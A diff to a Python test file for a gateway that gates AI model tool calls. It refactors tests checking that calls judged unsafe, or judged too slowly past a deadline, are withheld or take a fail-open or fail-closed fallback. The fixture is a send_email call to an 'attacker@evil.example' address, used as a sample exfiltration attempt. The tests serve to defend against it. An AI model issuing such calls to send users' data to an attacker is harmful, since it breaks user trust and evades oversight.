@@ -246,32 +246,40 @@ def test_a_reply_ended_by_its_trailers_has_its_calls_judged_too(reply_mode: str)
         assert parsed(got.body)[0] == f"Sure, on it.\n{NOTE}" and got.body.endswith(b"data: [DONE]\n\n")
 
 
-@pytest.mark.parametrize("reply_mode", ["FULL_DUPLEX_STREAMED", "BUFFERED"])
-def test_kept_back_calls_whose_judgement_runs_past_the_deadline_are_not_sent_when_failing_closed(
-    reply_mode: str
-) -> None:
-    gateway, decider = gateway_for(0.1, decision_timeout_ms=5000)
-    settings = StreamSettings(deadline_s=0.2, failure="closed")
-
-    async def scenario():
-        async with serving(GatewayDecisions(gateway), settings) as channel:
-            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
-            await stream.request(body_of({**HI, "stream": True}))
-            decider.delay_s = 2.0  # the tool gate's question, asked at the reply's end, is slow
-            got = await stream.respond(200, SSE, pieces(CALL_STREAM, 64))
-            await stream.finish()
-            return got
-
-    got = run(scenario())
-    assert isinstance(got, Delivered) and ATTACKER not in got.body
-    assert json.loads(got.body[CALL_AT:].decode().removeprefix("data: "))["error"]["code"] == "decisions_unavailable"
-
-
 CALL = {"id": "call_1", "type": "function",
         "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'}}
 WHOLE_CALL_REPLY = {"id": "c", "object": "chat.completion", "created": 1, "model": "stub", "choices": [
     {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [CALL]},
      "finish_reason": "tool_calls"}]}
+
+
+def _reply_judged_too_slowly(gateway, decider, settings: StreamSettings, reply_mode: str, *, streamed: bool):
+    """What the client gets of a reply carrying a call (a live stream, or one whole reply) when the tool gate's
+    question, asked at the reply's end, is slower than the stream's deadline."""
+    raw = CALL_STREAM if streamed else body_of(WHOLE_CALL_REPLY)
+    headers = SSE if streamed else {"content-type": "application/json"}
+
+    async def scenario():
+        async with serving(GatewayDecisions(gateway), settings) as channel:
+            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
+            await stream.request(body_of({**HI, "stream": streamed}))
+            decider.delay_s = 2.0
+            got = await stream.respond(200, headers, pieces(raw, 64))
+            await stream.finish()
+            return got
+
+    return run(scenario())
+
+
+@pytest.mark.parametrize("reply_mode", ["FULL_DUPLEX_STREAMED", "BUFFERED"])
+def test_kept_back_calls_whose_judgement_runs_past_the_deadline_are_not_sent_when_failing_closed(
+    reply_mode: str
+) -> None:
+    gateway, decider = gateway_for(0.1, decision_timeout_ms=5000)
+    got = _reply_judged_too_slowly(gateway, decider, StreamSettings(deadline_s=0.2, failure="closed"), reply_mode,
+                                   streamed=True)
+    assert isinstance(got, Delivered) and ATTACKER not in got.body
+    assert json.loads(got.body[CALL_AT:].decode().removeprefix("data: "))["error"]["code"] == "decisions_unavailable"
 
 
 @pytest.mark.parametrize("streamed", [False, True])
@@ -285,20 +293,8 @@ def test_calls_whose_judgement_runs_past_the_deadline_take_the_gates_fallback_wh
     # gate's fallback (closed: removed; open: sent, marked as a fallback)
     log = tmp_path / "decisions.jsonl"
     gateway, decider = gateway_for(0.1, decision_timeout_ms=5000, fallback=fallback, log=log)
-    settings = StreamSettings(deadline_s=0.2, failure="open")
-    raw = CALL_STREAM if streamed else body_of(WHOLE_CALL_REPLY)
-    headers = SSE if streamed else {"content-type": "application/json"}
-
-    async def scenario():
-        async with serving(GatewayDecisions(gateway), settings) as channel:
-            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "FULL_DUPLEX_STREAMED")
-            await stream.request(body_of({**HI, "stream": streamed}))
-            decider.delay_s = 2.0  # the tool gate's question, asked at the reply's end, is slow
-            got = await stream.respond(200, headers, pieces(raw, 64))
-            await stream.finish()
-            return got
-
-    got = run(scenario())
+    got = _reply_judged_too_slowly(gateway, decider, StreamSettings(deadline_s=0.2, failure="open"),
+                                   "FULL_DUPLEX_STREAMED", streamed=streamed)
     assert isinstance(got, Delivered)
     if fallback == "closed":
         assert ATTACKER not in got.body
@@ -333,12 +329,7 @@ def test_a_filter_that_sends_no_reply_body_gets_a_tool_gated_stream_refused_not_
 @pytest.mark.parametrize("p_unsafe", [0.9, 0.1])
 def test_a_whole_reply_to_a_request_without_tools_has_its_calls_gated_too(reply_mode: str, p_unsafe: float) -> None:
     # the HTTP gateway gates every whole chat reply on a tool-gated route, whatever the request offered
-    call = {"id": "call_1", "type": "function",
-            "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'}}
-    reply = {"id": "c", "object": "chat.completion", "created": 1, "model": "stub", "choices": [
-        {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]},
-         "finish_reason": "tool_calls"}]}
-    raw = body_of(reply)
+    raw = body_of(WHOLE_CALL_REPLY)
     gateway, _ = gateway_for(p_unsafe)
 
     async def scenario():
@@ -355,7 +346,7 @@ def test_a_whole_reply_to_a_request_without_tools_has_its_calls_gated_too(reply_
     if p_unsafe > 0.5:
         assert ATTACKER not in got.body and message["content"] == NOTE
     else:
-        assert message["tool_calls"] == [call]
+        assert message["tool_calls"] == [CALL]
 
 
 @pytest.mark.parametrize("raw", [CALL_STREAM, CALL_STREAM.replace(b"\n", b"\r\n"), TEXT_STREAM])
